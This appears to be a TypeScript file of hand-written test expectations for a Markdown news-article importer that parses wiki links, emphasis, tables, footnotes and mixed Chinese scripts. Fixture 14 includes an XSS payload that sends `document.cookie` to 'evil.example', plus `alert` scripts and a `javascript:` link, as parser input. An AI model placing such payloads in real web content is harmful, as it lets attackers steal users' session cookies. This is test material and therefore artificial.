/**
 * The expectations for test/fixtures/import14/, written by hand from the files before the importer was read (see
 * import14.test.ts for the conventions). Shared by the parser test and the CLI test (import14Cli.test.ts).
 */
import type { Expected, Entity } from './import13Expected';

const GN = 'https://gnews.org/articles/';
const one = (lang: string, ...targets: string[]): Entity[] => targets.map((t) => [lang, t, 1]);
/** The header every article but the last four has: `2024-05-NN 08:00 宝尹` and a GNews source. */
const std = (n: number, title: string) => ({
  title,
  author: '宝尹',
  published: `2024-05-${String(n).padStart(2, '0')}T08:00:00Z`,
  source: `${GN}${3000000 + n}`,
  lang: 'zh',
});

export const EXPECTED: Record<string, Expected> = {
  '01-lang-label-forms.zh.md': {
    meta: std(1, '卡塔尔斡旋的几种链接写法'),
    text: '卡国首都多哈近日接待了哈马斯代表团，卡塔尔的经济也受关注。\n\nDoha与半岛电视台都在报道。',
    links: [
      ['zh', '卡塔尔', '卡国'], ['zh', '多哈', '多哈'], ['zh', '哈马斯', '哈马斯'], ['zh', '卡塔尔#经济', '卡塔尔的经济'],
      ['en', 'Doha', 'Doha'], ['zh', '半岛电视台', '半岛电视台'],
    ],
    entities: [['zh', '卡塔尔', 2], ...one('zh', '多哈', '哈马斯', '半岛电视台'), ['en', 'Doha', 1]],
    notInBody: ['返回', '宝尹'],
  },
  '02-underscore-percent.zh.md': {
    meta: std(2, '编码过的链接目标'),
    text: '纽约（New York City）与卡塔尔首都多哈。\n\n半岛电视台和卡塔尔政府关系密切。',
    links: [
      ['en', 'New_York_City', '纽约'], ['en', 'New York City', 'New York City'], ['zh', '卡塔尔', '卡塔尔'], ['zh', '多哈', '多哈'],
      ['en', 'Al_Jazeera', '半岛电视台'], ['zh', '卡塔尔', '卡塔尔'],
    ],
    // An entity is named by a spelling as written, the first seen on a tie (wikiTitle.test.ts pins that).
    entities: [['en', 'New_York_City', 2], ['zh', '卡塔尔', 2], ['zh', '多哈', 1], ['en', 'Al_Jazeera', 1]],
    notInBody: ['%E5'],
  },
  '03-links-in-emphasis.zh.md': {
    meta: std(3, '强调里的链接'),
    // `__…__` against a Han character on both sides stays as written, as CommonMark (and markdown-it-cjk-friendly,
    // which relaxes only the rules that `**` needs) and GitHub read it: the intraword-underscore rule.
    text: '美国与英方发表声明，法国表示支持。\n\n__德国__总理说：美国总统拜登的访问很重要。',
    links: [['zh', '美国', '美国'], ['zh', '英国', '英方'], ['zh', '法国', '法国'], ['en', 'Germany', '德国'], ['zh', '乔·拜登', '拜登']],
    entities: [...one('zh', '美国', '英国', '法国', '乔·拜登'), ['en', 'Germany', 1]],
    marks: [['美国', ['strong']], ['英方', ['em']], ['法国', ['em', 'strong']], ['美国总统', ['strong']], ['拜登', ['strong']], ['的访问', ['strong']]],
  },
  '04-links-in-headings-lists.zh.md': {
    meta: std(4, '安理会表决'),
    text: '安理会的表决\n\n美国：否决\n\n理由：以色列的自卫权\n\n英国弃权\n\n中国：赞成\n\n第二轮 俄罗斯\n\n第一轮\n\n第二轮：俄罗斯提出修正案',
    links: [
      ['zh', '联合国安全理事会', '安理会'], ['zh', '美国', '美国'], ['zh', '以色列', '以色列'], ['zh', '英国', '英国'], ['zh', '中华人民共和国', '中国'],
      ['zh', '俄罗斯', '俄罗斯'], ['zh', '俄罗斯', '俄罗斯'],
    ],
    entities: [['zh', '俄罗斯', 2], ...one('zh', '联合国安全理事会', '美国', '以色列', '英国', '中华人民共和国')],
  },
  '05-links-in-quotes-tables.zh.md': {
    meta: std(5, '各方对加沙局势的反应'),
    text: '古特雷斯说：“加沙的局势令人震惊。”\n\n以色列回应称将继续行动。\n\n国家\n\n立场\n\n沙特\n\n呼吁停火\n\n埃及、约旦\n\n开放口岸',
    links: [
      ['zh', '安东尼奥·古特雷斯', '古特雷斯'], ['zh', '加沙', '加沙'], ['zh', '以色列', '以色列'], ['zh', '沙特阿拉伯', '沙特'], ['zh', '埃及', '埃及'],
      ['zh', '约旦', '约旦'], ['zh', '拉法口岸', '口岸'],
    ],
    entities: one('zh', '安东尼奥·古特雷斯', '加沙', '以色列', '沙特阿拉伯', '埃及', '约旦', '拉法口岸'),
  },
  '06-adjacent-punct.zh.md': {
    meta: std(6, '紧挨着的链接'),
    text: '美国英国和法国，“九二共识”与《联合国宪章》。\n\n据（路透）报道，美国-墨西哥边境的移民潮持续。',
    links: [
      ['zh', '美国', '美国'], ['zh', '英国', '英国'], ['zh', '法国', '法国'], ['zh', '九二共识', '九二共识'], ['zh', '联合国宪章', '联合国宪章'],
      ['en', 'Reuters', '路透'], ['zh', '美国', '美国'], ['zh', '墨西哥', '墨西哥'], ['zh', '移民', '移民'], ['zh', '移民', '潮'],
    ],
    entities: [['zh', '美国', 2], ['zh', '移民', 2], ...one('zh', '英国', '法国', '九二共识', '联合国宪章', '墨西哥'), ['en', 'Reuters', 1]],
  },
  '07-label-brackets-pipes.zh.md': {
    meta: std(7, '标签里的符号'),
    text: '以色列国防军（IDF）称，“哈马斯”在卡塔尔 | 多哈设有办事处。\n\n加沙]地带与埃及接壤。',
    links: [
      ['zh', '以色列国防军', '以色列国防军（IDF）'], ['zh', '哈马斯', '“哈马斯”'], ['zh', '卡塔尔', '卡塔尔 | 多哈'], ['zh', '加沙', '加沙]地带'],
      ['zh', '埃及', '埃及'],
    ],
    entities: one('zh', '以色列国防军', '哈马斯', '卡塔尔', '加沙', '埃及'),
  },
  '08-unclosed-brackets.zh.md': {
    meta: std(8, '没有闭合的双括号'),
    text: '据报道[[zh:卡塔尔 与埃及正在斡旋，哈马斯表示欢迎。\n\n多哈[[zh:多哈] 以及 ]] 符号不构成链接，[[ 也一样。',
    links: [['zh', '哈马斯', '哈马斯']],
    entities: one('zh', '哈马斯'),
    warnings: [/\[\[/],
  },
  '09-code-spans-blocks.zh.md': {
    meta: std(9, '代码里的双括号'),
    text:
      '维基链接的写法是 [[zh:条目|标签]]，不要写成 [[zh:`条目`]]。\n\n[[zh:卡塔尔]]与[[zh:多哈]]\n\n列表里的代码 [[zh:加沙]] 也不是链接，但加沙是。\n\n' +
      '写法\n\n结果\n\n[[zh:埃及]]\n\n埃及\n\n[[zh:约旦]] 缩进代码',
    links: [['zh', '加沙', '加沙'], ['zh', '埃及', '埃及']],
    entities: one('zh', '加沙', '埃及'),
  },
  '10-title-link.zh.md': {
    meta: std(10, '卡塔尔斡旋以哈停火'),
    titleLinks: [['zh', '卡塔尔', '卡塔尔'], ['zh', '以色列', '以'], ['zh', '哈马斯', '哈']],
    text: '卡塔尔外交部表示，停火协议将于周五生效。',
    links: [['zh', '卡塔尔', '卡塔尔']],
    entities: one('zh', '卡塔尔'),
    notInBody: ['停火协议将于周五生效。卡塔尔', '斡旋'],
  },
  '11-trad-simp-mixed.zh.md': {
    meta: std(11, '繁簡混排的條目'),
    text: '卡塔爾外交部表示，卡塔尔將繼續斡旋，卡塔爾首相亦證實。\n\n台灣、台湾與臺灣寫法不同，台灣是同一條目。\n\n國務院与国务院发表声明，国务院总理出席。',
    links: [
      ['zh', '卡塔爾', '卡塔爾'], ['zh', '卡塔尔', '卡塔尔'], ['zh', '卡塔爾', '卡塔爾'], ['zh', '台灣', '台灣'], ['zh', '台湾', '台湾'], ['zh', '臺灣', '臺灣'],
      ['zh', '台灣', '台灣'], ['zh', '國務院', '國務院'], ['zh', '国务院', '国务院'], ['zh', '国务院', '国务院'],
    ],
    entities: [['zh', '卡塔爾', 3], ['zh', '台灣', 4], ['zh', '国务院', 3]],
  },
  '12-html-inline.zh.md': {
    meta: std(12, '网页里的HTML标签'),
    text: '卡塔尔的人口约为290万<sup>[1]</sup>。\n其中<span style="color:red">多哈</span>占大多数。\n\n<!-- 编辑注：此段待核实 -->\n\n埃米尔\n塔米姆\n发表讲话。',
    links: [['zh', '卡塔尔', '卡塔尔'], ['zh', '多哈', '多哈'], ['zh', '埃米尔', '埃米尔'], ['zh', '塔米姆·本·哈马德·阿勒萨尼', '塔米姆']],
    entities: one('zh', '卡塔尔', '多哈', '埃米尔', '塔米姆·本·哈马德·阿勒萨尼'),
    notInBody: ['<br', '<BR'],
  },
  '13-entities.zh.md': {
    meta: std(13, '实体与字符引用'),
    text: '中国外交部\u00a0发言人说——“中方反对”…\n\n版权©2024 AT&T&Verizon，<未完> &foo;',
    links: [['zh', '中华人民共和国', '中方'], ['en', 'AT&T', 'AT&T'], ['en', 'Verizon', 'Verizon']],
    entities: [...one('zh', '中华人民共和国'), ...one('en', 'AT&T', 'Verizon')],
    notInBody: ['&#', '&nbsp;', '&amp;', '&mdash;'],
  },
  '14-script-tags.zh.md': {
    meta: std(14, '正文里的脚本'),
    text:
      "<script>document.location='https://evil.example/?c='+document.cookie</script>\n\n卡塔尔官员说<script>alert(1)</script>谈判继续。\n\n" +
      '<style>body{display:none}</style>\n\n<a href="javascript:alert(1)" onclick="alert(2)">加沙</a>',
    links: [['zh', '卡塔尔', '卡塔尔'], ['zh', '加沙', '加沙']],
    entities: one('zh', '卡塔尔', '加沙'),
  },
  '15-setext-headings.zh.md': {
    meta: std(15, '正文里的Setext标题'),
    text: '卡塔尔的斡旋\n\n第一段正文，提到哈马斯。\n\n谈判的以方立场\n\n第二段正文。\n\n第三段在分隔线之后。',
    links: [['zh', '卡塔尔', '卡塔尔'], ['zh', '哈马斯', '哈马斯'], ['zh', '以色列', '以方']],
    entities: one('zh', '卡塔尔', '哈马斯', '以色列'),
    notInBody: ['===', '---', '***'],
  },
  '16-tables.zh.md': {
    meta: std(16, '海湾国家一览'),
    text: '国家\n\n人口（万）\n\n备注\n\n卡塔尔\n\n290\n\n富裕\n\n巴林\n\n150\n\n阿曼\n\n450\n\n甲 | 乙\n\n表后的段落。',
    links: [['zh', '国家', '国家'], ['zh', '卡塔尔', '卡塔尔'], ['zh', '巴林', '巴林'], ['zh', '阿曼', '阿曼']],
    entities: one('zh', '国家', '卡塔尔', '巴林', '阿曼'),
    marks: [['富裕', ['strong']]],
  },
  '17-nested-lists.zh.md': {
    meta: std(17, '多层列表'),
    text: '卡塔尔\n\n多哈\n\n卢赛尔\n\n巴林\n\n[ ] 核实埃及的说法\n\n[x] 核实约旦的说法\n\n第一项\n\n第一项的第二段，提到阿曼。\n\n第二项',
    links: [['zh', '卡塔尔', '卡塔尔'], ['zh', '多哈', '多哈'], ['zh', '卢赛尔', '卢赛尔'], ['zh', '巴林', '巴林'], ['zh', '埃及', '埃及'], ['zh', '约旦', '约旦'], ['zh', '阿曼', '阿曼']],
    entities: one('zh', '卡塔尔', '多哈', '卢赛尔', '巴林', '埃及', '约旦', '阿曼'),
  },
  '18-footnotes.zh.md': {
    meta: std(18, '脚注与链接'),
    // Footnotes (session 19): references are superscript numbers, no text; the notes follow the body, one block each.
    text: '卡塔尔是天然气大国，多哈是首都。\n\n见卡塔尔经济。\n\n多哈人口约120万。',
    links: [['zh', '卡塔尔', '卡塔尔'], ['zh', '多哈', '多哈'], ['zh', '卡塔尔经济', '卡塔尔经济']],
    entities: one('zh', '卡塔尔', '多哈', '卡塔尔经济'),
    marks: [['多哈', ['strong']]],
  },
  '19-reference-links.zh.md': {
    meta: std(19, '引用式链接'),
    text: '据路透社、美联社和BBC报道，卡塔尔的声明已经发布。',
    links: [['zh', '卡塔尔', '卡塔尔']],
    entities: one('zh', '卡塔尔'),
    notInBody: ['reuters.com', 'apnews.com', 'mofa.gov.qa', '[r]', '[q]'],
  },
  '20-images.zh.md': {
    meta: std(20, '带标题的图片'),
    // An image adds no text, and a paragraph holding only an image no block; the space written after the linked
    // image stays the paragraph's first character.
    text: ' 图1：多哈天际线\n\n据半岛电视台报道，卡塔尔首相出席。',
    links: [['zh', '多哈', '多哈'], ['zh', '卡塔尔', '卡塔尔']],
    entities: one('zh', '多哈', '卡塔尔'),
    notInBody: ['卡塔尔地图', 'img.example.com', 'aljazeera', '图标', 'Al Jazeera', '!['],
  },
  '21-hard-breaks.zh.md': {
    meta: std(21, '硬换行'),
    text: '卡塔尔外交部声明：\n第一，支持停火；\n第二，释放人质；\n第三，人道援助。\n\n最后一段多哈。',
    links: [['zh', '卡塔尔', '卡塔尔'], ['zh', '多哈', '多哈']],
    entities: one('zh', '卡塔尔', '多哈'),
  },
  '22-emoji-surrogates.zh.md': {
    meta: std(22, '表情符号与扩展汉字'),
    text: '🇶🇦卡塔尔球迷👍🏽庆祝，一家人👨\u200d👩\u200d👧在多哈\u2764\ufe0f。\n\n𠮷野家在東京开了新店🍜，𩸽是一种鱼。',
    links: [['zh', '卡塔尔', '🇶🇦卡塔尔'], ['zh', '多哈', '多哈'], ['zh', '𠮷野家', '𠮷野家'], ['ja', '東京都', '東京'], ['zh', '𩸽', '𩸽']],
    entities: [...one('zh', '卡塔尔', '多哈', '𠮷野家', '𩸽'), ['ja', '東京都', 1]],
  },
  '23-invisible-spaces.zh.md': {
    meta: std(23, '看不见的空白'),
    text: 'New York、New\u00a0York与纽约。\n\n多哈\u200b多哈\u200b和卡塔尔之间有零宽空格\ufeff。',
    links: [['en', 'New York', 'New York'], ['en', 'New\u00a0York', 'New\u00a0York'], ['en', 'New York', '纽约'], ['zh', '多哈', '多哈'], ['zh', '卡塔尔', '卡塔尔']],
    entities: [['en', 'New York', 3], ...one('zh', '多哈', '卡塔尔')],
  },
  '24-fullwidth-punct.zh.md': {
    meta: std(24, '全角标点'),
    text: '【卡塔尔】「多哈」——加沙……（埃及）！\n\n全角括号［［zh:约旦］］不是链接；沙特？是。',
    links: [['zh', '卡塔尔', '卡塔尔'], ['zh', '多哈', '多哈'], ['zh', '加沙', '加沙'], ['zh', '埃及', '埃及'], ['zh', '沙特阿拉伯', '沙特']],
    entities: one('zh', '卡塔尔', '多哈', '加沙', '埃及', '沙特阿拉伯'),
  },
  '25-crlf-bom-body.zh.md': {
    meta: std(25, 'CRLF与BOM的正文'),
    text: '卡塔尔外交部：\n第一点；\n第二点。\n\n多哈\n\n卢赛尔\n\n甲\n\n乙\n\n巴林\n\n二\n\n[[zh:代码]]\n\n阿曼引文',
    links: [['zh', '卡塔尔', '卡塔尔'], ['zh', '多哈', '多哈'], ['zh', '卢赛尔', '卢赛尔'], ['zh', '巴林', '巴林'], ['zh', '阿曼', '阿曼']],
    entities: one('zh', '卡塔尔', '多哈', '卢赛尔', '巴林', '阿曼'),
    notInBody: ['\r', '\ufeff'],
  },
  '26-no-final-newline.zh.md': {
    meta: std(26, '没有结尾换行的文件'),
    text: '第一段结尾有空格\n\n第二段提到卡塔尔。\n\n最后一行是链接多哈',
    links: [['zh', '卡塔尔', '卡塔尔'], ['zh', '多哈', '多哈']],
    entities: one('zh', '卡塔尔', '多哈'),
  },
  '27-clock-after-pipe.zh.md': {
    meta: { title: '卡塔尔宣布新一轮斡旋', author: '王小明', published: '2024-05-14T14:30:00Z', source: `${GN}3000027`, lang: 'zh' },
    text: '卡塔尔外交部周二宣布新一轮斡旋。',
    links: [['zh', '卡塔尔', '卡塔尔']],
    entities: one('zh', '卡塔尔'),
    notInBody: ['14:30', '王小明', '|'],
  },
  '28-french-clock.en.md': {
    meta: { title: 'Macron meets the Emir of Qatar in Paris', author: 'Jean Dupont', published: '2024-05-14T14:30:00Z', source: 'https://www.afp.com/en/news/3000028', lang: 'en' },
    text: 'French President Emmanuel Macron received Sheikh Tamim at the Élysée on Tuesday.',
    links: [['en', 'Emmanuel Macron', 'Emmanuel Macron'], ['en', 'Tamim bin Hamad Al Thani', 'Sheikh Tamim'], ['fr', "Palais de l'Élysée", 'Élysée']],
    entities: [...one('en', 'Emmanuel Macron', 'Tamim bin Hamad Al Thani'), ['fr', "Palais de l'Élysée", 1]],
    notInBody: ['Back', '14h30', 'Jean Dupont'],
  },
  '29-cna-dateline.zh.md': {
    meta: { title: '外交部：台灣將持續參與國際組織', author: '王小明', published: '2024-05-15T14:30:00Z', source: 'https://www.cna.com.tw/news/aipl/202405150001.aspx', lang: 'zh' },
    text: '（中央社記者王小明台北15日電）外交部今天表示，台灣將持續爭取參與世界衛生大會。\n\n外交部長說，各國支持聲音增加。',
    links: [['zh', '中華民國外交部', '外交部'], ['zh', '世界衛生大會', '世界衛生大會']],
    entities: one('zh', '中華民國外交部', '世界衛生大會'),
  },
  '30-cna-dateline-two.zh.md': {
    meta: { title: '美國國會議員訪台', author: '林志明、陳美玲', published: '2024-05-14T09:00:00Z', source: 'https://www.cna.com.tw/news/aipl/202405140002.aspx', lang: 'zh' },
    text: '（中央社記者林志明、陳美玲華盛頓14日專電）美國國會跨黨派議員今天啟程訪問台灣。',
    links: [['zh', '美國國會', '美國國會'], ['zh', '臺灣', '台灣']],
    entities: one('zh', '美國國會', '臺灣'),
  },
};
